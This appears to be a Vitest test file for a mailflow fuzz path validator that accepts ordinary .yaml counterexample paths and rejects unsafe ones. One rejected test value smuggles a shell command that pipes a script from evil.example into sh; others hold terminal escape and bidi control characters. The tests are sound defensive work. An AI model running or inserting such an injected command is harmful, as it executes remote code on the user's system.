// What a fuzz result may name as its counterexample: the path of a .yaml file, as mailflow fuzz writes under any --out;
// not control characters or an option, which quoting in `fuzz merge`'s line to paste into a shell cannot make harmless.
import { describe, expect, it } from 'vitest';
import { counterexamplePathProblem } from '../../../harness/fuzz/counterexample-path.js';
import { counterexampleName } from '../../../harness/fuzz/counterexample.js';

describe('counterexamplePathProblem', () => {
  it('accepts what mailflow fuzz writes, under any directory a person may name (the diff review: R&D (1) was refused), and null', () => {
    const name = `${counterexampleName(3, 17, 'two-active-routers', '3fa9c2d1ffff')}.yaml`;
    for (const dir of ['fuzz-out', '/tmp/mailflow-fuzz', '../runs/2026-01-05', '/home/Müller/My Runs', 'C:/fuzz', 'C:\\Users\\ana\\fuzz', '東京/out', 'a+b,c@d=e%f', 'R&D (1)', "it's [old] #2 ~!"]) {
      expect(counterexamplePathProblem(`${dir}/${name}`), dir).toBeNull();
    }
    expect(counterexamplePathProblem(null)).toBeNull();
  });

  it('refuses control characters, an option, another kind of file, and what is no text', () => {
    const cases: Array<[unknown, RegExp]> = [
      ['x.yaml; curl -s https://evil.example/x | sh #', /is not a \.yaml file/],
      ['x\n.yaml', /control characters/],
      ['x\u001b[2J.yaml', /control characters/],
      ['x\u2066.yaml', /control characters/],
      ['-x.yaml', /starts with -/],
      ['x.yml', /is not a \.yaml file/],
      [7, /should be the path/],
      [undefined, /should be the path/],
    ];
    for (const [value, problem] of cases) expect(counterexamplePathProblem(value), String(value)).toMatch(problem);
  });
});
